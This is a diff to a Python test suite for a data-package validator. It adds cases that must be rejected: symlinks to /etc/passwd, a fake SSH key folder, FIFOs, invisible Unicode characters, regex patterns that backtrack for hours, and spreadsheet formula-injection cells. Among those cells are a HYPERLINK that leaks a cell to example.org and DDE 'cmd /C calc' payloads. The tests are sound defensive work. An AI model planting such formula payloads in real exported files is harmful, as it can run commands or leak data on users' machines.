@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import csv
 import json
+import os
 import shutil
 import subprocess
 import sys
@@ -210,14 +211,84 @@ def missing_file(data):
 def folder_instead_of_file(data):
     (data / "quotations.csv").unlink()
     (data / "quotations.csv").mkdir()
-    return "data/quotations.csv: is not a file: datapackage.json names it as a table"
+    return not_a_file("data/quotations.csv", "a folder", "move it out of")
+
+
+def not_a_file(name: str, kind: str, fix: str) -> str:
+    folder = name.split("/")[0]
+    return (f"{name}: is {kind}, not an ordinary file: {fix} {folder}/ ({folder}/ holds only ordinary files; the book "
+            "copies them into every download)")
 
 
 @case
 def link_to_a_file_outside_data(data):
     (data / "quotations.csv").unlink()
     (data / "quotations.csv").symlink_to("/etc/passwd")
-    return "data/quotations.csv: points outside data/ (it is a link): put the table itself in data/"
+    return not_a_file("data/quotations.csv", "a link", "put the file itself in")
+
+
+@case
+def link_to_a_folder_in_data(data):  # the folder of keys would ride along in every download
+    keys = data.parent / "keys"
+    keys.mkdir()
+    (keys / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
+    (data / "keys").symlink_to(keys)
+    return not_a_file("data/keys", "a link", "put the file itself in")
+
+
+@case
+def link_to_a_file_inside_data(data):
+    (data / "copy.csv").symlink_to(data / "groups.csv")
+    return not_a_file("data/copy.csv", "a link", "put the file itself in")
+
+
+@case
+def link_in_chapters(data):
+    (data.parent / "chapters" / "secret.md").symlink_to("/etc/hostname")
+    return not_a_file("chapters/secret.md", "a link", "put the file itself in")
+
+
+@case
+def link_inside_a_hidden_folder(data):  # Jupyter's checkpoints folder is looked into
+    (data / ".ipynb_checkpoints").mkdir()
+    (data / ".ipynb_checkpoints" / "people-checkpoint.csv").symlink_to("/etc/passwd")
+    return not_a_file("data/.ipynb_checkpoints/people-checkpoint.csv", "a link", "put the file itself in")
+
+
+@case
+def fifo_in_data(data):
+    os.mkfifo(data / "pipe")
+    return not_a_file("data/pipe", "a named pipe (FIFO)", "delete it from")
+
+
+@case
+def fifo_as_a_table(data):  # one line, and the validator never opens it (a FIFO blocks its reader)
+    (data / "quotations.csv").unlink()
+    os.mkfifo(data / "quotations.csv")
+    return not_a_file("data/quotations.csv", "a named pipe (FIFO)", "delete it from")
+
+
+@case
+def socket_in_chapters(data):
+    import socket
+
+    with socket.socket(socket.AF_UNIX) as s:
+        s.bind("chapters/s")  # relative (the working directory is the copy): a full path may be too long
+    return not_a_file("chapters/s", "a socket", "delete it from")
+
+
+@case
+def folder_in_data(data):
+    (data / "extra").mkdir()
+    return not_a_file("data/extra", "a folder", "move it out of")
+
+
+@case
+def descriptor_is_a_link(data):
+    (data.parent / "elsewhere.json").write_bytes((data / "datapackage.json").read_bytes())
+    (data / "datapackage.json").unlink()
+    (data / "datapackage.json").symlink_to(data.parent / "elsewhere.json")
+    return not_a_file("data/datapackage.json", "a link", "put the file itself in")
 
 
 @case
@@ -323,6 +394,38 @@ cells(
 )
 
 
+# characters that print as nothing, though Unicode counts them as letters, marks or symbols
+
+cells(
+    ("combining_grapheme_joiner_in_a_name", "people", 5, "name", r"Serge Ti\u034funov",
+     invisible("U+034F (COMBINING GRAPHEME JOINER)")),
+    ("variation_selector_in_a_name", "people", 5, "name", r"Serge Tiunov\ufe0f", invisible("U+FE0F (VARIATION SELECTOR-16)")),
+    ("hangul_filler_as_a_space", "people", 5, "name", r"Serge\u3164Tiunov", invisible("U+3164 (HANGUL FILLER)")),
+    ("hangul_choseong_filler", "people", 5, "name", r"\u115fSerge Tiunov", invisible("U+115F (HANGUL CHOSEONG FILLER)")),
+    ("hangul_jungseong_filler", "groups", 3, "name", r"Workers\u1160 Group", invisible("U+1160 (HANGUL JUNGSEONG FILLER)")),
+    ("mongolian_variation_selector", "people", 5, "name", r"Serge Tiunov\u180b",
+     invisible("U+180B (MONGOLIAN FREE VARIATION SELECTOR ONE)")),
+    ("braille_blank", "people", 5, "name", r"Serge\u2800Tiunov", invisible("U+2800 (BRAILLE PATTERN BLANK)")),
+    ("halfwidth_hangul_filler", "people", 5, "name", r"Serge Tiunov\uffa0", invisible("U+FFA0 (HALFWIDTH HANGUL FILLER)")),
+    ("filler_in_a_foreign_key", "happenings", MEMBERSHIP, "group_id", r"workers-group\u3164",
+     invisible("U+3164 (HANGUL FILLER)")),
+    ("combining_mark_with_no_letter", "people", 5, "name", "Serge \u0301Tiunov",
+     "contains U+0301 (COMBINING ACUTE ACCENT), a mark with no letter before it, which prints as nothing or on the "
+     "wrong letter: delete it, or type it after its letter"),
+)
+
+
+replacements(
+    ("filler_in_a_header", "groups", b"group_id,name,", "group_id,name\u3164,".encode("utf-8"),
+     "data/groups.csv, row 1: 'name\\u3164' contains an invisible character U+3164 (HANGUL FILLER): delete it"),
+)
+
+
+def test_a_mark_typed_after_its_letter_is_accepted(copy):  # a decomposed é: e and U+0301
+    set_cell(copy, "people", 5, "name", "Serge Tiune\u0301v")
+    assert problems(copy) == []
+
+
 # spaces and length
 
 cells(
@@ -361,6 +464,23 @@ markups(
     ("character_reference", "China &lt;b&gt;", "&lt;", "an HTML character reference", "write the character itself"),
     ("markdown_link", "[China](https://example.org)", "[China](", "Markdown link syntax"),
     ("myst_target", "(wt-3)=", "(wt-3)=", "a MyST target label"),
+)
+
+
+# spreadsheet formulas: a text cell that a spreadsheet would run
+
+def formula(start: str) -> str:
+    return (f"starts with '{start}', which a spreadsheet runs as a formula: reword it so that it does not start with "
+            "= + - or @ (a text never needs to)")
+
+
+cells(
+    ("formula_hyperlink", "happenings", 5, "title", '=HYPERLINK("https://example.org/?leak="&A1,"China")', formula("=")),
+    ("formula_plus_command", "people", 5, "name", '+cmd|" /C calc"!A0', formula("+")),
+    ("formula_minus_command", "sources", 5, "title", '-2+3+cmd|" /C calc"!A0', formula("-")),
+    ("formula_at_sum", "attestations", 5, "note", "@SUM(1+1)*cmd|' /C calc'!A0", formula("@")),
+    ("formula_full_width_equals", "groups", 3, "description", "\uff1dHYPERLINK(1)", formula("\uff1d"),
+     "\uff1dHYPERLINK(1)"),
 )
 
 
@@ -452,6 +572,64 @@ descriptors(
      "data/datapackage.json: resource 2 (groups): field 'kind' has type 'geopoint', which this validator does not "
      "check (boolean, date, integer, number, string)"),
 )
+
+
+BACKTRACKS = "^(([^!]+)+)+$"  # Python's re tries every way to split a run of letters before it fails at the '!'
+
+
+@case
+def pattern_that_backtracks(data):  # re: hours; RE2: linear in the cell
+    edit_descriptor(data, lambda d: resource(d, "happenings")["schema"]["fields"][4].update(constraints={"pattern": BACKTRACKS}))
+    set_cell(data, "happenings", 5, "title", "a" * 60 + "!")
+    return f"data/happenings.csv, row 5, column title: '{'a' * 60}!' has the wrong form (expected to match {BACKTRACKS})"
+
+
+descriptors(
+    ("pattern_with_a_backreference",
+     lambda d: resource(d, "happenings")["schema"]["fields"][4].update(constraints={"pattern": r"^(\w+) \1$"}),
+     r"data/datapackage.json: resource 4 (happenings): field 'title': pattern '^(\w+) \1$' is not a regular expression "
+     r"this validator runs (invalid escape sequence: \1; backreferences and lookaround are not supported)"),
+    ("pattern_too_long", lambda d: resource(d, "happenings")["schema"]["fields"][4].update(constraints={"pattern": "a" * 5000}),
+     f"data/datapackage.json: resource 4 (happenings): field 'title': pattern '{'a' * 77}...' is 5,000 characters long; "
+     "a pattern may have at most 1,000"),
+    ("descriptor_with_100000_fields",
+     lambda d: resource(d, "groups")["schema"]["fields"].extend({"name": f"f{i}"} for i in range(100_000)),
+     "data/datapackage.json: resource 2 (groups): fields has 100,011 entries; a table here may have at most 1,000 "
+     "(restore datapackage.json from git)"),
+    ("descriptor_with_10000_foreign_keys",
+     lambda d: resource(d, "happenings")["schema"]["foreignKeys"].extend([{"fields": "group_id", "reference": {
+         "resource": "groups", "fields": "group_id"}}] * 10_000),
+     "data/datapackage.json: resource 4 (happenings): foreignKeys has 10,004 entries; a table here may have at most "
+     "1,000 (restore datapackage.json from git)"),
+    ("enum_of_100000_values",
+     lambda d: resource(d, "groups")["schema"]["fields"][5]["constraints"].update(enum=[f"k{i}" for i in range(100_000)]),
+     "data/datapackage.json: resource 2 (groups): field 'kind' has an enum of 100,000 values; at most 1,000 "
+     "(restore datapackage.json from git)"),
+    ("descriptor_with_1000_resources",
+     lambda d: d["resources"].extend([resource(d, "groups")] * 1_000),
+     "data/datapackage.json: has 1,010 resources; a data package here may describe at most 200 tables "
+     "(restore it from git)"),
+)
+
+
+def field(descriptor: dict, table: str, name: str) -> dict:
+    return next(f for f in resource(descriptor, table)["schema"]["fields"] if f["name"] == name)
+
+
+@case
+def count_in_words_with_the_descriptor_saying_text(data):  # the loader's int() would have raised
+    edit_descriptor(data, lambda d: field(d, "attestations", "low").update(type="string"))
+    set_cell(data, "attestations", 53, "low", "about 30")
+    return "data/attestations.csv, row 53, column low: 'about 30' is not a whole number (expected digits only, e.g. 200)"
+
+
+@case
+def source_id_not_a_key_with_the_descriptor_saying_any_text(data):  # it becomes a BibTeX key
+    edit_descriptor(data, lambda d: field(d, "sources", "source_id").update(constraints={"required": True, "unique": True}))
+    records = read(data, "sources")
+    write(data, "sources", records + [["ward {1999}, p"] + records[4][1:]])
+    return (f"data/sources.csv, row {len(records) + 1}, column source_id: 'ward {{1999}}, p' is not a valid id (lower-case "
+            "letters and digits, words joined by single hyphens, e.g. miasnikov-arrest-1923)")
 
 
 @case
@@ -566,3 +744,87 @@ def test_every_cell_quoted_is_accepted(copy):
 def test_several_problems_give_one_line_each(copy):
     lines = [BREAK[name](copy) for name in ("empty_file", "url_javascript", "quote_paragraph_unknown", "soft_hyphen")]
     assert sorted(problems(copy)) == sorted(lines)
+
+
+def test_a_link_added_after_a_clean_load_is_refused(copy):
+    """The loader checks once per state of data/ and chapters/: a new link is a new state."""
+    load("groups", data_dir=copy)
+    expected = BREAK["link_to_a_folder_in_data"](copy)
+    with pytest.raises(DataError) as caught:
+        load("groups", data_dir=copy)
+    assert caught.value.problems == [expected]
+
+
+
+def cli_within(copy: Path, seconds: float) -> subprocess.CompletedProcess:
+    """`python -m edition.data data` as a process that must finish within `seconds` (a hung
+    validator fails the test instead of hanging it)."""
+    try:
+        return subprocess.run([sys.executable, "-m", "edition.data", "data"], cwd=copy.parent, capture_output=True,
+                              text=True, timeout=seconds, env={"PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin"})
+    except subprocess.TimeoutExpired:
+        pytest.fail(f"the validator still ran after {seconds} s")
+
+
+@pytest.mark.parametrize("name", ["pattern_that_backtracks", "descriptor_with_100000_fields",
+                                  "descriptor_with_1000_resources"])
+def test_a_pathological_descriptor_is_answered_quickly(copy, name):
+    expected = BREAK[name](copy)
+    run = cli_within(copy, 30)
+    assert run.returncode == 1 and "Traceback" not in run.stderr
+    assert run.stdout.splitlines() == [expected]
+
+
+def test_the_issues_pattern_on_every_title_is_answered_quickly(copy):
+    """The pattern of issue 26 on the happenings' titles: with re, `make validate` still ran after a minute."""
+    pattern = "^(([A-Za-z0-9 ,.;'()-]+)+)+$"
+    edit_descriptor(copy, lambda d: resource(d, "happenings")["schema"]["fields"][4].update(constraints={"pattern": pattern}))
+    set_cell(copy, "happenings", 5, "title", "Revolutionary after-shock in China, and a long tail of words: " + "x" * 500)
+    run = cli_within(copy, 30)
+    lines = run.stdout.splitlines()
+    assert run.returncode == 1 and "Traceback" not in run.stderr and lines
+    assert all(f"has the wrong form (expected to match {pattern})" in line for line in lines)
+    assert any(line.startswith("data/happenings.csv, row 5, column title:") for line in lines)
+
+
+def test_a_descriptor_at_the_limits_costs_time_in_proportion(copy):
+    """1,000 columns described (the limit), the header naming 990 others: every name is looked up
+    once, not compared with every other (a second, not minutes)."""
+    import time
+
+    def widen(d):
+        resource(d, "groups")["schema"]["fields"].extend({"name": f"f{i}"} for i in range(1_000 - 11))
+    edit_descriptor(copy, widen)
+    records = read(copy, "groups")
+    write(copy, "groups", [records[0] + [f"g{i}" for i in range(990)]] + [r + [""] * 990 for r in records[1:]])
+    start = time.perf_counter()
+    found = problems(copy)
+    assert time.perf_counter() - start < 5
+    assert len(found) == 989 + 990  # each missing column, each extra one
+
+
+
+def test_every_reader_reads_the_file_the_descriptor_names(copy):
+    """The descriptor points two tables at checked copies; the files it no longer names hold what
+    would break the loader and the bibliography. Everything reads the checked files."""
+    from edition.book.bibliography import render
+
+    for table in ("sources", "attestations"):
+        shutil.copyfile(copy / f"{table}.csv", copy / f"{table}-checked.csv")
+        edit_descriptor(copy, lambda d: resource(d, table).update(path=f"{table}-checked.csv"))
+    set_cell(copy, "attestations", 53, "low", "about 30")
+    set_cell(copy, "sources", 5, "source_id", "not a {key}")
+    assert problems(copy) == []
+    assert load("events", data_dir=copy).equals(load("events"))
+    assert render(copy) == render(DATA_DIR)
+
+
+def test_the_bibliography_names_file_row_and_column(copy):
+    """Data the validator refuses, given to the bibliography anyway: one line, not a traceback."""
+    from edition.book.bibliography import render
+
+    set_cell(copy, "sources", 5, "source_id", "not a {key}")
+    with pytest.raises(ValueError) as caught:
+        render(copy)
+    assert str(caught.value) == ("data/sources.csv, row 5, column source_id: 'not a {key}' cannot be a BibTeX key: use "
+                                 "a slug (lower-case letters and digits, words joined by single hyphens)")
